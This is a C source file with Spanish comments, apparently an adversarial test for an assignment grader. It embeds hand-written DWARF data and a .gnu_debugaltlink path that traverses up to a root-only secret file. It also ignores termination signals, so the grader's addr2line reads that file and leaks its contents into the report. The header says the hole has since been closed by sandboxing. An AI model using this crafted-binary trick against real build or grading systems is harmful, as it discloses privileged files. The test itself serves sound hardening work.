/* addr2line_altlink.c — trampa (laboratorio 07; adversario de la sesión 28): hacer que una
 * herramienta del calificador lea, con sus permisos y fuera de la caja, un archivo que la
 * entrega nombra dentro de su propio binario.
 *
 * Un CU de DWARF 4 propio cuyo DW_AT_comp_dir es una cadena del archivo «alternativo»
 * (DW_FORM_GNU_strp_alt), y una sección .gnu_debugaltlink con una ruta relativa que sube hasta
 * @SECRETO@ (un ELF de solo root, con la marca en su .debug_str). El programa escribe en el
 * descriptor de la precarga vivos «creado en @programa+0x<objetivo>», ignora SIGINT y SIGTERM y
 * se queda en uv_run: al matarlo, el calificador traduce la dirección con addr2line, y bfd 2.40
 * sigue el enlace sin mirar el build-id y escribe la cadena como carpeta. Antes, la marca
 * llegaba 11 veces al informe; ahora addr2line corre encerrado (lib/vivos.c, traducir). */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>
#include <uv.h>

void objetivo(void);
extern char __executable_start[];

__asm__(".text\n"
        ".globl objetivo\n.type objetivo,@function\n"
        "objetivo:\n .Lob0: nop\n nop\n nop\n ret\n .Lob1:\n"
        ".section .gnu_debugaltlink,\"\",@progbits\n"
        ".string \"../../../../../../../../../../../../../../../..@SECRETO@\"\n"
        ".byte 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20\n"
        ".section .debug_abbrev,\"\",@progbits\n"
        ".Lab: .uleb128 77\n .uleb128 0x11\n .byte 0\n"
        " .uleb128 0x10\n .uleb128 0x17\n"
        " .uleb128 0x11\n .uleb128 0x01\n"
        " .uleb128 0x12\n .uleb128 0x07\n"
        " .uleb128 0x03\n .uleb128 0x08\n"
        " .uleb128 0x1b\n .uleb128 0x1f21\n" /* comp_dir: DW_FORM_GNU_strp_alt */
        " .byte 0,0\n .byte 0\n"
        ".section .debug_info,\"\",@progbits\n"
        " .long .Li1-.Li0\n.Li0: .value 4\n .long .Lab\n .byte 8\n"
        " .uleb128 77\n .long .Ll0\n .quad .Lob0\n .quad .Lob1-.Lob0\n .string \"x.c\"\n .long 0\n"
        ".Li1:\n"
        ".section .debug_line.adv,\"\",@progbits\n"
        ".Ll0: .long .Ll9-.Ll1\n.Ll1: .value 4\n .long .Ll3-.Ll2\n.Ll2:\n"
        " .byte 1,1,1,0xfb,14,13\n .byte 0,1,1,1,1,0,0,0,1,0,0,1\n"
        " .byte 0\n"
        " .string \"x.c\"\n .uleb128 0\n .uleb128 0\n .uleb128 0\n .byte 0\n"
        ".Ll3:\n"
        " .byte 0\n .uleb128 9\n .byte 2\n .quad .Lob0\n"
        " .byte 1\n .byte 2\n .uleb128 4\n .byte 0\n .uleb128 1\n .byte 1\n"
        ".Ll9:\n"
        ".text\n");

static void nada(uv_timer_t *t)
{
    (void)t;
}

static void sorda(uv_signal_t *s, int n)
{
    (void)s;
    (void)n;
}

int main(void)
{
    objetivo();
    char l[128];
    int n = snprintf(l, sizeof l, "creado en @programa+0x%lx\n",
                     (unsigned long)((uintptr_t)objetivo - (uintptr_t)__executable_start));
    if (write(7, l, (size_t)n) < 0) { /* sin la precarga (valgrind): nada que traducir */
    }
    uv_loop_t *b = uv_default_loop();
    uv_timer_t t;
    uv_timer_init(b, &t);
    uv_timer_start(&t, nada, 100000, 100000);
    uv_signal_t si, st;
    uv_signal_init(b, &si);
    uv_signal_start(&si, sorda, SIGINT);
    uv_signal_init(b, &st);
    uv_signal_start(&st, sorda, SIGTERM);
    return uv_run(b, UV_RUN_DEFAULT);
}
